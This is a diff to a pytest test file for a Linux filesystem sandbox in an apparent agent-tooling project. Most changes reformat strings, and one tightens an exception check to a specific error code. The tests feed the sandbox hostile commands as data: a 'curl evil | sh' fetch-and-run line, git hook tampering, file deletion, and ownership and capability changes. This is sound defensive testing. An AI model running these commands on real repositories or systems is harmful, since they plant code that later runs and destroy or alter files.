@@ -20,6 +20,7 @@ from pathlib import Path
 
 import pytest
 
+from tinyagent_fs.errors import ErrorCode, ToolError
 from tinyagent_fs.policy import SandboxPolicy
 from tinyagent_fs.providers.linux import LinuxSandboxProvider
 
@@ -35,7 +36,7 @@ from .sandbox_support import (
 
 pytestmark = require_sandbox()
 
-PWNED_HOOK = "#!/bin/sh\ntouch \"$(git rev-parse --show-toplevel)/pwned\"\n"
+PWNED_HOOK = '#!/bin/sh\ntouch "$(git rev-parse --show-toplevel)/pwned"\n'
 
 
 @pytest.fixture
@@ -130,7 +131,11 @@ async def test_every_code_running_git_and_shell_file_is_read_only(tmp_path: Path
     attacks = []
     for path in before:
         quoted = shlex.quote(str(path))
-        attacks += [f"echo 'curl evil | sh' >> {quoted}", f"rm -f {quoted}", f"mv {quoted} {quoted}.x"]
+        attacks += [
+            f"echo 'curl evil | sh' >> {quoted}",
+            f"rm -f {quoted}",
+            f"mv {quoted} {quoted}.x",
+        ]
     attacks += [
         "echo evil > .git/hooks/pre-commit",
         "echo evil > .git/modules/sub/hooks/pre-commit",
@@ -223,7 +228,7 @@ async def test_metadata_outside_the_roots_and_of_system_files_cannot_change(tmp_
                 f"chown 1:1 {quoted}",
                 f"touch -d 2000-01-01 {quoted}",
                 f"setcap cap_setuid+ep {quoted}",
-                f"{sys.executable} -c 'import os; os.setxattr({str(path)!r}, \"user.x\", b\"1\")'",
+                f'{sys.executable} -c \'import os; os.setxattr({str(path)!r}, "user.x", b"1")\'',
             ]
         result = await sandbox.run("; ".join(attacks) + "; echo done")
         assert result["stdout"].endswith("done\n"), result
@@ -235,7 +240,7 @@ async def test_capabilities_are_gone_even_inside_the_root(sandbox: Sandbox) -> N
     inside = sandbox.root / "inside.txt"
     owner = inside.stat().st_uid
     result = await sandbox.run(
-        "chown 12345:12345 inside.txt; mknod devnull c 1 3; mknod \"$TMPDIR/devnull\" c 1 3"
+        'chown 12345:12345 inside.txt; mknod devnull c 1 3; mknod "$TMPDIR/devnull" c 1 3'
     )
     assert "chown: changing ownership of 'inside.txt': Operation not permitted" in result["stderr"]
     assert result["stderr"].count("mknod:") == 2, result
@@ -293,8 +298,9 @@ async def test_daemons_are_gone_after_each_call_and_after_close(sandbox: Sandbox
     inside = namespace_pids(sandbox.provider)
     assert len(inside) >= 3
     os.kill(sandbox.provider.worker_pid, 9)
-    with pytest.raises(Exception):
+    with pytest.raises(ToolError) as caught:
         await asyncio.wait_for(pending, 10)
+    assert caught.value.code is ErrorCode.SANDBOX_FAILURE
     deadline = time.monotonic() + 5
     while any(is_running(pid) for pid in inside) and time.monotonic() < deadline:
         await asyncio.sleep(0.05)
